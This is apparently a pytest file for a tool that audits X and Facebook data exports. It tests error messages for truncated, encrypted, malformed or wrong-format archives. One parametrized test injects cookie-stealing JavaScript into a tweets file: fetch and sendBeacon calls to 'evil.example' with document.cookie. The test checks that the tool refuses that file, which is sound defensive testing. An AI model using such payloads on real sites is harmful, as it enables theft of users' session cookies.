"""Broken exports get a clear message naming the file and the problem; what could be read is still
reported; nothing in an export is ever run."""

from __future__ import annotations

import gzip
import io
import json
import re
import zipfile

import pytest

from pychecker.cli import main
from tests.audit.exports import day, encrypted_zip, facebook_export, write_zip, x_archive
from tests.checker.test_audit_exports import META_ITEMS, X_ITEMS


def run(*argv, capsys):
    out = io.StringIO()
    code = main(["audit", *map(str, argv), "--format", "jsonl"], stdout=out)
    return code, [json.loads(line) for line in out.getvalue().splitlines()], capsys.readouterr().err


def test_a_file_that_is_not_a_zip(tmp_path, capsys):
    fake = tmp_path / "twitter-archive.zip"
    fake.write_bytes(gzip.compress(b"window.YTD.tweets.part0 = []"))
    code, rows, err = run(fake, capsys=capsys)
    assert (code, rows) == (2, [])
    assert "pychecker: twitter-archive.zip is not a zip file (nor a folder)" in err


def test_a_zip_with_no_posts(tmp_path, capsys):
    empty = write_zip({"README.txt": b"hello", "photos/1.jpg": b"\xff\xd8"}, tmp_path / "export.zip")
    code, _, err = run(empty, capsys=capsys)
    assert code == 2
    assert "no posts, replies or comments found in export.zip (2 files)" in err


def test_a_meta_export_in_html_format_is_asked_for_again_in_json(tmp_path, capsys):
    html = write_zip({"your_facebook_activity/posts/your_posts_1.html": b"<html></html>"}, tmp_path / "fb.zip")
    code, _, err = run(html, capsys=capsys)
    assert code == 2
    assert "fb.zip is an export in HTML format" in err and "JSON" in err


def test_a_zip_cut_short_gives_the_files_before_the_cut(tmp_path, capsys):
    files = facebook_export(META_ITEMS)  # text files first, then the photos and videos
    whole = write_zip(files, tmp_path / "whole.zip").read_bytes()
    cut = tmp_path / "facebook-cut.zip"
    cut.write_bytes(whole[: len(whole) - 2000])  # inside the media, the zip's directory gone
    with pytest.raises(zipfile.BadZipFile):
        zipfile.ZipFile(cut)
    code, rows, err = run(cut, capsys=capsys)
    assert code == 1
    assert "facebook-cut.zip is cut short: the directory a zip keeps at its end is missing" in err
    assert "Checked 4 posts and 1 comment" in err  # every post was in the part that arrived
    assert {row["rule"] for row in rows} >= {"child-consent"}


def test_a_zip_cut_inside_the_posts_file_gives_the_posts_before_the_cut(tmp_path, capsys):
    files = x_archive(X_ITEMS * 200)
    ordered = {"data/account.js": files["data/account.js"], "data/tweets.js": files["data/tweets.js"]}
    whole = write_zip(ordered, tmp_path / "whole.zip").read_bytes()
    cut = tmp_path / "x-cut.zip"
    cut.write_bytes(whole[: len(whole) * 2 // 3])
    code, _, err = run(cut, capsys=capsys)
    assert code == 1
    assert "pychecker: data/tweets.js: it is cut short" in err
    read = int(re.search(r"the ([\d,]+) posts before it are checked", err).group(1).replace(",", ""))
    assert 100 < read < 1000
    checked = re.search(r"Checked ([\d,]+) posts and ([\d,]+) repl", err).groups()
    assert sum(int(n.replace(",", "")) for n in checked) == read


def test_a_password_protected_zip_says_so_and_how_to_read_it(tmp_path, capsys):
    files = x_archive(X_ITEMS)
    locked = encrypted_zip({p: d for p, d in files.items() if p.endswith(".js")}, tmp_path / "locked.zip")
    with zipfile.ZipFile(locked) as check:
        check.setpassword(b"secret")
        assert check.read("data/tweets.js") == files["data/tweets.js"]  # really encrypted, really readable
    code, _, err = run(locked, capsys=capsys)
    assert code == 2
    assert "pychecker: data/tweets.js: it is encrypted (the zip is password-protected)" in err
    assert "unzip it with its password, then audit the folder" in err


def test_posts_file_of_an_unexpected_shape_is_named(tmp_path, capsys):
    files = facebook_export([*META_ITEMS, day("Vote Labour on Thursday!", "2022-07-09", kind="comment")])
    posts_path = next(p for p in files if "your_posts" in p)
    files[posts_path] = json.dumps({"status": "moved", "items": [1, 2, 3]}).encode()
    code, _, err = run(write_zip(files, tmp_path / "fb.zip"), capsys=capsys)
    assert code == 1  # the comments were still read
    assert (
        f"pychecker: {posts_path}: it should hold posts, but holds an object with 'items': nothing in it was read"
        in err
    )


def test_elements_missing_what_their_kind_always_has_are_counted_and_skipped(tmp_path, capsys):
    files = facebook_export(META_ITEMS)
    posts_path = next(p for p in files if "your_posts" in p)
    posts = json.loads(files[posts_path])
    posts[1]["timestamp"] = "yesterday"
    posts[2]["timestamp"] = None
    files[posts_path] = json.dumps(posts).encode()
    _, _, err = run(write_zip(files, tmp_path / "fb.zip"), capsys=capsys)
    assert f"{posts_path}: 2 elements did not have the shape of Facebook posts and were skipped" in err
    assert "(first, element 1: a timestamp should be seconds since 1970, not 'yesterday')" in err
    assert "Checked 2 posts and 1 comment" in err


def test_broken_json_is_named_with_where_and_the_posts_before_it_count(tmp_path, capsys):
    files = facebook_export(META_ITEMS)
    comments_path = next(p for p in files if p.endswith("comments.json"))
    posts_path = next(p for p in files if "your_posts" in p)
    text = files[posts_path].decode()
    at = text.index('"timestamp"', text.index('"timestamp"', 200) + 1)
    files[posts_path] = (text[:at] + "timestamp: oops, " + text[at:]).encode()
    code, _, err = run(write_zip(files, tmp_path / "fb.zip"), capsys=capsys)
    assert code == 1
    assert f"pychecker: {posts_path}: it is not valid JSON at character {at:,}" in err
    assert "; the 1 posts before it are checked" in err or "; the 2 posts before it are checked" in err
    assert comments_path not in err


CODE_IN_TWEETS = [
    ("before", lambda js: js.replace("window.YTD", 'fetch("https://evil.example/"+document.cookie);window.YTD', 1)),
    ("inside", lambda js: js.replace('"retweeted" : false', '"retweeted" : alert(document.cookie)', 1)),
    ("after", lambda js: js + ";\nnavigator.sendBeacon('https://evil.example', document.cookie)"),
]


@pytest.mark.parametrize(("where", "inject"), CODE_IN_TWEETS, ids=[c[0] for c in CODE_IN_TWEETS])
def test_a_tweets_file_with_code_in_it_is_refused_and_none_of_it_counts(tmp_path, capsys, where, inject):
    files = x_archive(X_ITEMS * 2, parts=2)
    files["data/tweets.js"] = inject(files["data/tweets.js"].decode()).encode()
    code, rows, err = run(write_zip(files, tmp_path / "x.zip"), capsys=capsys)
    assert "pychecker: data/tweets.js: refused: " in err
    assert "it is not read, and nothing in it is run" in err
    assert {row["source"] for row in rows} == {"data/tweets-part1.js"}  # the other part is still read
    assert "Checked 4 posts and 1 reply" in err  # data/tweets.js's 5 tweets are not counted
    assert code == 1
